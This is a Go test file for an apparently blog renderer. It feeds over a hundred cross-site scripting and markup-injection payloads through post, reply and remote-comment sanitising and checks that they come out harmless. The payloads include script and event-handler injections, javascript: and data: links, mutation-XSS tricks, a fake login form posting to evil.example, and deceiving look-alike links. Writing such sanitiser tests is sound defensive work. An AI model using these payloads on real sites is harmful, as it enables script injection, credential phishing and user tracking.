package render

import (
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// attacks are inputs that made other sanitisers or renderers emit script, or that break out of the place where a text
// is shown. Each is tried as a post, as a reply and as a comment from elsewhere.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img src=x:x onerror&#61;alert(1)>`,
	"<img\x00src=x onerror=alert(1)>",
	`<img """><script>alert(1)</script>">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi//xlink:href="javascript:alert(1)">x</mi></math>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<math><mtext><b onclick=alert(1)>x</b></mtext></math>`,
	`<math style="position:fixed;inset:0"><mspace width="9999em" height="9999em"/></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="//evil.example/">x</a>`,
	`<a href="/\evil.example/">x</a>`,
	`<a href="\\evil.example/">x</a>`,
	`<a href="https:/evil.example/">x</a>`,
	`<a href="https:evil.example">x</a>`,
	`[x](javascript&colon;alert(1))`,
	`[x](javascript:alert(1) "t")`,
	`[x](<javascript:alert(1)>)`,
	"[x](java\tscript:alert(1))",
	`[x](data:text/html,<script>alert(1)</script>)`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`<javascript:alert(1)>`,
	`![x](javascript:alert(1))`,
	`![x"onerror="alert(1)](y)`,
	`![x](y "z\" onerror=\"alert(1)")`,
	`[x](y "z' onclick='alert(1)")`,
	"```\"><script>alert(1)</script>\nx\n```",
	"```x\" onclick=\"alert(1)\nx\n```",
	`$\href{javascript:alert(1)}{x}$`,
	`$\text{<img src=x onerror=alert(1)>}$`,
	`$\includegraphics{javascript:alert(1)}$ $\htmlData{a=b}{x}$ $\class{x" onclick="alert(1)}{y}$`,
	`$</annotation></semantics></math><script>alert(1)</script>$`,
	`$\color{red;background:url(//evil.example)}{x}$`,
	`</div></article><h1>Ad</h1>`,
	`</p></li></ol></section></main></body></html><script>alert(1)</script>`,
	`<p id=publish-form name=x style="position:fixed" class="btn admin">x</p>`,
	`<form action="//evil.example"><input name=password><button>Log in</button></form>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf"><applet code=x>`,
	`<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>`,
	`<style>@import "//evil.example";body{display:none}</style>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
	`<title><a title="</title><img src=x onerror=alert(1)>">`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<plaintext><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php <script>alert(1)</script> ?>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<video><source onerror=alert(1) src="javascript:alert(1)"></video>`,
	`<video poster="javascript:alert(1)" src="https://a.example/v.mp4" autoplay onplay=alert(1)></video>`,
	`<audio src=x onerror=alert(1) autoplay>`,
	`<table><tr><td background="javascript:alert(1)"><a><table><a>x`,
	`<select><option><style></option></select><img src=x onerror=alert(1)></style>`,
	`<b><p title="</b><img src=x onerror=alert(1)>">x`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<div class="table-scroll" onmouseover=alert(1)>x</div>`,
	`<a href="https://a.example/" target=_blank rel=opener ping="https://evil.example" download>x</a>`,
	`<img srcset="x 1x, javascript:alert(1) 2x" src="/a.png" sizes=1 usemap=#x crossorigin lowsrc=javascript:alert(1)>`,
	`<input type=image src=x onerror=alert(1)>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<body onload=alert(1)>`,
	"<a href=\"https://a.example/\u202egpj.exe\">\u202egnp.x</a>",
	`<<a|ascript>alert(1)</script>`,
	`<p/onclick=alert(1)>x`,
	`<ruby><rt><rp><script>alert(1)</script></ruby>`,
	`<a href="https://bank.example@evil.example/">https://bank.example</a>`,
	`> [!NOTE" onclick="alert(1)] <script>alert(1)</script>`,
	`[TOC]` + "\n\n" + `## <img src=x onerror=alert(1)> "><script>alert(1)</script>`,
	`[^1]` + "\n\n" + `[^1]: <script>alert(1)</script>`,
	`https://youtu.be/x"><script>alert(1)</script>`,
	`[</span><script>alert(1)</script>](https://youtu.be/abc)`,
	`![a](/media/wide/a.jpg "x | <script>alert(1)</script>") ![b](/media/wide/b.jpg '"onload="alert(1)')`,
	`<img src="/media/wide/a,b 9w.jpg" srcset="https://evil.example/x 1w" sizes="100vw" fetchpriority="low" loading="eager">`,
	`<img src="https://evil.example/pixel.gif" alt="&lt;script>alert(1)&lt;/script>">`,
	`<a href="/x"><img src="https://evil.example/a.png"></a>`,
	`<div class="gallery gallery-3 equation-number"><span class="equation-number video-play">x</span></div>`,
	`[<script>alert(1)</script>](/media/x.mp3)`,
	`[x](https://evil.example/x.mp4)`,
	`<video src="https://evil.example/x.mp4" poster="https://evil.example/p.gif"><source src="https://evil.example/y.mp4"></video>`,
	`<audio><source src="https://evil.example/a.mp3"></audio>`,
	`audio><source src="https://evil.example/a.mp3"></audio><track src="https://evil.example/t.vtt">`,
	`$$ x \label{"><script>alert(1)</script>} $$` + "\n\n" + `\eqref{"><script>alert(1)</script>} \eqref{gone"onclick="alert(1)} [](#eq:"><b>)`,
	`$$ x \tag{<img src=x onerror=alert(1)>} \label{a} $$` + "\n\n" + `\eqref{a}`,
	`<p id="eq-a">x</p>` + "\n\n" + `$$ x \label{a} $$`,
	"> a\n>\n> — <script>alert(1)</script>[x](javascript:alert(1))",
	`> [!ASIDE] <img src=x onerror=alert(1)>` + "\n" + `> [!DETAILS] <script>alert(1)</script>`,
	"> [!DETAILS] <img src=https://evil.example/x.png>\n> <details><summary>x",
	"Table: <script>alert(1)</script>\n|a|\n|-|\n|b|\nTable: [x](javascript:alert(1))",
	"<table><tr><td>Table: a</td></tr></table><table><tbody><tr><td>Table: b<table><tr><td>Table: c",
}

func TestAttacksComeOutHarmless(t *testing.T) {
	t.Parallel()
	r := stocked(t)
	for _, attack := range attacks {
		result, err := r.Post(context.Background(), attack, PostOptions{})
		if err != nil {
			t.Errorf("post %q: %v", attack, err)
			continue
		}
		checkPage(t, result.HTML)
		checkInvariants(t, r.Wire(result.HTML, "https://blog.example/p/"))
		checkInvariants(t, r.Wire(attack, "https://blog.example/p/"))
		reply, err := r.Comment(context.Background(), attack)
		if err != nil {
			t.Errorf("reply %q: %v", attack, err)
		}
		checkComment(t, reply)
		remote := r.Remote(attack)
		checkComment(t, remote)
		if again := r.Remote(remote); again != remote {
			t.Errorf("cleaning %q again changes it\nfrom %q\nto   %q", attack, remote, again)
		}
		for _, out := range []string{result.Excerpt, PlainText(attack, 100), CleanName(attack, 100)} {
			if strings.ContainsAny(out, "\u202e\x00\n") {
				t.Errorf("plain text of %q holds controls: %q", attack, out)
			}
		}
	}
}

func TestRemoteHTMLSurvivesAsOnMastodon(t *testing.T) {
	t.Parallel()
	r := newRenderer(t)
	const rel = ` rel="nofollow ugc noopener"`
	tests := []struct{ name, in, want string }{
		{"plain", "hello", "hello"},
		{"mention", `<p><span class="h-card" translate="no"><a href="https://peer.example/@bob" class="u-url mention">@<span>bob</span></a></span> hi</p>`,
			`<p><span class="h-card" translate="no"><a class="u-url mention" href="https://peer.example/@bob"` + rel + `>@<span>bob</span></a></span> hi</p>`},
		{"shortened link", `<a href="https://a.example/long/path" target="_blank" rel="nofollow"><span class="invisible">https://</span><span class="ellipsis">a.example/long</span><span class="invisible">/path</span></a>`,
			`<a href="https://a.example/long/path"` + rel + `><span class="invisible">https://</span><span class="ellipsis">a.example/long</span><span class="invisible">/path</span></a>`},
		{"hidden text only in links", `<p><span class="invisible">secret</span></p>`, `<p><span>secret</span></p>`},
		{"headings", "<h1>Title</h1><p>Text</p>", "<p><strong>Title</strong></p><p>Text</p>"},
		{"blocks do not run together", "<div>a</div><div>b<br>c</div>", "<p>a</p><p>b<br/>c</p>"},
		{"nested blocks", "<section><div>a</div><p>b</p></section>", "<p>a</p><p>b</p>"},
		{"table", "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "<p>a b </p><p>c </p>"},
		{"image", `<p><img src="https://a.example/t.gif" alt=":blobcat:"> hi</p>`, "<p>:blobcat: hi</p>"},
		{"formula", `<p><math><semantics><mi>x</mi><annotation encoding="application/x-tex">x^2</annotation></semantics></math></p>`, "<p>$x^2$</p>"},
		{"list", `<ol start="3" reversed><li value="9" id=x>a</li></ol>`, `<ol start="3" reversed=""><li value="9">a</li></ol>`},
		{"other schemes become text", `<a href="ftp://a.example/">a</a> <a href="/rel">b</a> <a href="//c.example">c</a> <a href="mailto:a@b">d</a>`, "a b c d"},
		{"deceiving link", `<a href="https://evil.example/x">https://bank.example/login</a>.`, `<a href="https://evil.example/x"` + rel + `>https://bank.example/login</a> (evil.example).`},
		{"deceiving host without scheme", `<a href="https://evil.example/">www.bank.example</a>`, `<a href="https://evil.example/"` + rel + `>www.bank.example</a> (evil.example)`},
		{"deceiving with hidden part", `<a href="https://evil.example/"><span class="invisible">https://evil.example/</span>bank.example</a>`,
			`<a href="https://evil.example/"` + rel + `><span class="invisible">https://evil.example/</span>bank.example</a> (evil.example)`},
		{"look-alike letters", `<a href="https://аpple.example/">apple.example</a>`, `<a href="https://xn--pple-43d.example/"` + rel + `>apple.example</a> (xn--pple-43d.example)`},
		{"name before the host", `<a href="https://bank.example@evil.example/">go</a>`, `<a href="https://evil.example/"` + rel + `>go</a>`},
		{"honest link", `<a href="https://www.a.example/x">a.example</a>`, `<a href="https://www.a.example/x"` + rel + `>a.example</a>`},
		{"break-out", `a</div></div></article>b`, "ab"},
		{"unclosed", `<p>a<strong>b`, "<p>a<strong>b</strong></p>"},
		{"bidi", "a\u202eb\u2066c\x07d", "abcd"},
		{"language", `<p lang="de" dir="rtl">a</p>`, `<p lang="de">a</p>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := r.Remote(tt.in)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			checkComment(t, got)
		})
	}
}
